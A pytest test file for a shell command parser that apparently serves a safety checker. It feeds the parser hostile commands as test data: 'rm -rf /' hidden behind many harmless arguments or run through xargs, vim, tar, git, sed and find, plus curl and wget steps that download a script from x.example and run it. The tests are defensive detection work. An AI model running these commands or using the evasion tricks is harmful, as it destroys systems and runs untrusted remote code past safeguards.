"""What stands behind many others in a command line, and what was fetched before it is run."""

from __future__ import annotations

import pytest

from engine.shell.reader import UNREADABLE, read

MANY = " ".join(f"a{number}" for number in range(300))
FILES = " ".join(f"f{number}" for number in range(20))


@pytest.mark.parametrize(
    "text",
    [
        f"echo {MANY} / | xargs rm -rf",
        f"printf 'rm -rf %s\\n' {MANY} / | sh",
        f"echo {MANY} / | parallel rm -rf",
        f"echo 'rm -rf /' | tee {FILES}; sh f19",
        "".join(f"echo ls > f{number};" for number in range(20)) + f"echo rm -rf / > x; cat {FILES} x | sh",
        f"vim {'-c :!ls ' * 20} -c ':!rm -rf /'",
        f"tar cf a b {'--checkpoint-action=exec=ls ' * 20} --checkpoint-action=exec='rm -rf /'",
        f"alias {' '.join(f'{each}=ls' for each in FILES.split())} x='rm -rf /'; x",
        f"git {'-c alias.a=log ' * 20} -c alias.x='!rm -rf /' x",
        f"sed {'-e s/a/b/ ' * 20} -e '1e rm -rf /' f",
        f"find . {'-exec ls {} + ' * 20} -exec rm -rf / +",
        "".join(f"cp /bin/l{number} a{number};" for number in range(70)) + "cp /bin/rm x; ./x -rf /",
    ],
)
def test_nothing_hides_behind_many_others(text: str) -> None:
    found = read([text])
    assert found[-1] != UNREADABLE
    assert any(entry.startswith("rm -rf ") and "/" in entry.split() for entry in found[1:])


@pytest.mark.parametrize(
    "text",
    [
        f"echo {MANY} {MANY} {MANY} {MANY} / | xargs rm -rf",
        "y='rm -rf /'; " + "".join(f"[ $x = {number} ] && y=l{number};" for number in range(70)) + "$y",
        "".join(f"cp /bin/l{number} a{number};" for number in range(300)) + "cp /bin/rm x; ./x -rf /",
    ],
)
def test_what_hides_behind_too_many_is_not_left_out(text: str) -> None:
    assert read([text])[-1] == UNREADABLE


@pytest.mark.parametrize(
    ("fetched", "file"),
    [
        ("curl -O x.example/i.sh", "i.sh"),
        ("curl -sSLO x.example/i.sh", "./i.sh"),
        ("curl -soi.sh https://x.example/i", "i.sh"),
        ("curl -o a https://x.example/a -O https://x.example/i.sh", "i.sh"),
        ("curl --output-dir /tmp -O https://x.example/i.sh", "/tmp/i.sh"),
        ("curl -H 'a: b' --remote-name-all https://x.example/i.sh", "i.sh"),
        ("wget -o log https://x.example/i.sh", "i.sh"),
        ("wget -Oi.sh x.example/x", "i.sh"),
        ("wget -P /tmp https://x.example/i.sh", "/tmp/i.sh"),
        ("wget 'https://x.example/i.sh?a=1'", "'i.sh?a=1'"),
        ("wget https://x.example/", "index.html"),
        ("aria2c -d /tmp https://x.example/i.sh", "/tmp/i.sh"),
        ("http --download https://x.example/i.sh", "i.sh"),
        ("curl https://x.example/i | dd of=i.sh", "i.sh"),
    ],
)
def test_what_was_fetched_is_known_when_it_is_run(fetched: str, file: str) -> None:
    assert read([f"{fetched}; sh {file}"])[-1].startswith(fetched.split(" ", 1)[0])
    assert read([f"{fetched}; sh other.sh"])[-1] == "sh other.sh"


def test_a_long_set_of_characters_is_not_cut() -> None:
    assert "rm -rf /" in read([f"echo zm -rf / | tr {'a' * 1_023}z {'b' * 1_023}r | sh"])
    assert read([f"echo zm -rf / | tr {'a' * 1_024}z {'b' * 1_024}r | sh"])[-1] == UNREADABLE
